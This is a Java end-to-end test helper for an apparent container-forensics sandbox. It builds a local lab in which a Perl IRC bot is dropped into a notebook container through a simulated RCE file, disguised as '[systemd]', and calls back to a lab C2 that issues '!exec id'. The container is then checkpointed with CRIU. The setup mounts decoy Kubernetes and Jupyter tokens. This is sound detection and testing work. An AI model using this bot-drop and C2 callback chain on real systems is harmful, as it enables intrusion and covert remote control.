package dev.stasis.sandbox.run;

import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.stasis.testsupport.GroundTruth;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * The IRC bot scenario of ../shared/lab, made live, exactly as make-scenarios.sh's irc_bot does it:
 * the notebook container on podman's default network, the lab C2 on the bridge gateway, the bot
 * dropped through the notebook's simulated RCE, a real {@code podman container checkpoint
 * --tcp-established} once the C2 log shows the bot's answer, then the container removed and the
 * C2 stopped. Ground truth comes from podman (the container's IP) and the C2's own log.
 */
final class IrcBotLab implements AutoCloseable {
    static final String GATEWAY = "10.88.0.1";
    final String name = "stasis-e2e-" + Long.toHexString(System.nanoTime() & 0xffffff);
    final int port = 20000 + (int) (ProcessHandle.current().pid() % 20000);
    final Path dir;
    final Path archive;
    final Path c2Log;
    String containerIp;
    private Process c2;

    IrcBotLab(Path dir) {
        this.dir = dir;
        this.archive = dir.resolve("irc-bot.tar.zst");
        this.c2Log = dir.resolve("c2.log");
    }

    /** Skips, loudly, where the lab cannot run. */
    static Path labOrSkip() {
        boolean root = Host.isRoot();
        boolean ready = Files.exists(Path.of("/tmp/lab-ready"));
        if (!root || !ready) {
            String why = "the sandbox end-to-end test needs root and podman + CRIU, /tmp/lab-ready (.ci/lab-setup)" + (root ? "" : " [not root]")
                    + (ready ? "" : " [no /tmp/lab-ready]");
            GroundTruth.require(false, why);
        }
        Path here = Path.of("").toAbsolutePath();
        for (Path p = here; p != null; p = p.getParent()) {
            Path lab = p.resolve("shared/lab");
            if (Files.isRegularFile(lab.resolve("perlbot.pl"))) return lab;
        }
        String why = "SKIPPED: ../shared/lab (perlbot.pl, c2server.py) not found above " + here;
        System.err.println(why);
        assumeTrue(false, why);
        return null;
    }

    void checkpoint(Path lab) throws Exception {
        if (!sh(List.of("podman", "image", "exists", "localhost/notebook:2.0"), 10).ok()) {
            must(List.of("podman", "build", "--runtime", "runc", "--build-arg", "BASE=localhost/base:12", "-t", "localhost/notebook:2.0", lab.toString()), 600);
        }
        Files.createDirectories(Path.of("/tmp/lab-sa"));
        if (!Files.exists(Path.of("/tmp/lab-sa/token"))) Files.writeString(Path.of("/tmp/lab-sa/token"), "eyJhbGciOiJSUzI1NiIsImtpZCI6ImxhYiJ9.lab-token.sig\n");
        must(List.of("podman", "--runtime", "runc", "run", "-d", "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1024:1024",
                "--name", name, "--hostname", name + "-7f9c4b-x2kq", "-v", "/tmp/lab-sa:/var/run/secrets/kubernetes.io/serviceaccount:ro",
                "-e", "JUPYTER_TOKEN=3f1c0e2b9a7d4c55", "localhost/notebook:2.0"), 60);
        containerIp = must(List.of("podman", "inspect", "--format", "{{.NetworkSettings.IPAddress}}", name), 10).out().strip();
        c2 = new ProcessBuilder("python3", lab.resolve("c2server.py").toString(), GATEWAY, String.valueOf(port), "#c2", "!exec id")
                .redirectErrorStream(true).redirectOutput(c2Log.toFile()).start();
        waitFor(() -> sh(List.of("ss", "-ltnH", "sport = :" + port), 5).out().contains(":" + port), 15, "the lab C2 did not listen");
        must(List.of("podman", "cp", lab.resolve("perlbot.pl").toString(), name + ":/tmp/perlbot.pl"), 30);
        String rce = "cd /tmp && C2_HOST=" + GATEWAY + " C2_PORT=" + port + " BOT_NICK=kube-7f3a BOT_CHANNEL='#c2' BOT_PROCNAME='[systemd]' perl /tmp/perlbot.pl & wait";
        Process p = new ProcessBuilder("podman", "exec", "-i", name, "sh", "-c", "cat > /tmp/.rce.new && mv /tmp/.rce.new /tmp/.rce").start();
        p.getOutputStream().write(rce.getBytes(StandardCharsets.UTF_8));
        p.getOutputStream().close();
        p.waitFor(30, TimeUnit.SECONDS);
        waitFor(() -> read(c2Log).contains("uid=0(root)"), 30, "the bot did not answer the lab C2");
        must(List.of("podman", "container", "checkpoint", "--tcp-established", "--export=" + archive, "--compress", "zstd", name), 120);
        sh(List.of("podman", "rm", "-f", "-t", "0", name), 60);
        stopC2();
    }

    void stopC2() throws InterruptedException {
        if (c2 != null && c2.isAlive()) {
            c2.destroy();
            c2.waitFor(5, TimeUnit.SECONDS);
        }
    }

    @Override
    public void close() throws Exception {
        stopC2();
        sh(List.of("podman", "rm", "-f", "-t", "0", name), 60);
    }

    static String read(Path p) {
        try {
            return Files.exists(p) ? Files.readString(p, StandardCharsets.ISO_8859_1) : "";
        } catch (IOException e) {
            return "";
        }
    }

    static Host.Result sh(List<String> cmd, int timeout) {
        return Host.run(cmd, timeout);
    }

    static Host.Result must(List<String> cmd, int timeout) {
        Host.Result r = Host.run(cmd, timeout);
        if (!r.ok()) throw new IllegalStateException(String.join(" ", cmd) + ": " + r.lastLine());
        return r;
    }

    interface Check {
        boolean ok() throws Exception;
    }

    static void waitFor(Check c, int seconds, String what) throws Exception {
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
        while (System.nanoTime() < end) {
            if (c.ok()) return;
            Thread.sleep(200);
        }
        throw new IllegalStateException(what + " within " + seconds + " s");
    }
}
